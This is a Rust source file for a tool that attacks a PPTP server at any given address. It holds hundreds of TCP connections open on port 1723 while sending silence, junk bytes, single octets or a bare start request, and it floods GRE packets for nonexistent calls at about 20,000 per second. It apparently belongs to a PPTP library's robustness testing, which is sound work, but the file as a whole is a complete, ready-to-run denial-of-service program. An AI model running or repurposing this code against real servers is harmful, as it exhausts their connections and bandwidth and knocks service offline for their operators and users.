//! `native-strangers ADDRESS MILLISECONDS` is not nice to the PPTP server there: connections that say nothing, rubbish, one octet, or a
//! good start and nothing more, as many as it can make; and GRE packets of calls that do not exist. It tells how many.

use std::error::Error;
use std::io::Write;
use std::net::{Ipv4Addr, Shutdown, SocketAddr, TcpStream};
use std::os::fd::AsFd;
use std::thread;
use std::time::{Duration, Instant};

use pptp_io::gre_socket::{self, Sender};
use pptp_io::random;

type Outcome<T> = Result<T, Box<dyn Error + Send + Sync>>;

/// What is kept open at a time: more than a server lets wait.
const HELD: usize = 400;

/// Packets in one go, and how often: 20,000 a second.
const BURST: usize = 20;
const PAUSE: Duration = Duration::from_millis(1);

fn main() -> Outcome<()> {
    let mut arguments = std::env::args().skip(1);
    let address: Ipv4Addr = arguments.next().ok_or("no address")?.parse()?;
    let time = Duration::from_millis(arguments.next().ok_or("no time")?.parse()?);
    let end = Instant::now() + time;
    let packets = thread::spawn(move || flood(address, end));
    let connections = connect(address, end)?;
    let packets = packets.join().map_err(|_| "the flood has failed")??;
    Ok(writeln!(std::io::stdout(), "{connections} {packets}")?)
}

/// A correct Start-Control-Connection-Request without names.
fn start_request() -> Vec<u8> {
    let mut bytes = vec![0, 156, 0, 1, 0x1a, 0x2b, 0x3c, 0x4d, 0, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 3, 0, 0, 0, 3];
    bytes.resize(156, 0);
    bytes
}

fn connect(address: Ipv4Addr, end: Instant) -> Outcome<u64> {
    let mut held: Vec<TcpStream> = Vec::new();
    let mut count = 0;
    while Instant::now() < end {
        let server = SocketAddr::from((address, 1723));
        let Ok(mut stream) = TcpStream::connect_timeout(&server, Duration::from_millis(200)) else { continue };
        // The server may have closed it already.
        let _ = match count % 5 {
            0 => Ok(()),
            1 => stream.write_all(&[0xff; 3000]),
            2 => stream.write_all(&[0]),
            3 => stream.write_all(&start_request()),
            _ => stream.shutdown(Shutdown::Write),
        };
        if held.len() < HELD {
            held.push(stream);
        } else if let Some(oldest) = held.get_mut(usize::try_from(count)? % HELD) {
            *oldest = stream;
        }
        count += 1;
    }
    Ok(count)
}

fn flood(address: Ipv4Addr, end: Instant) -> Outcome<u64> {
    let socket = gre_socket::open(None)?;
    gre_socket::connect(socket.as_fd(), address)?;
    let mut sender = Sender::new(BURST);
    let mut count = 0;
    while Instant::now() < end {
        let packets: Vec<Vec<u8>> = (0..BURST)
            .map(|_| {
                let mut packet = vec![0x30, 1, 0x88, 0x0b, 0, 4];
                packet.extend(&random::number().to_be_bytes()[..2]);
                packet.extend([0, 0, 0, 1, 0xff, 3, 0xc0, 0x21]);
                packet
            })
            .collect();
        // What does not fit is not sent.
        count +=
            sender.send(socket.as_fd(), packets.iter().map(|packet| (packet.as_slice(), None))).unwrap_or(0) as u64;
        thread::sleep(PAUSE);
    }
    Ok(count)
}
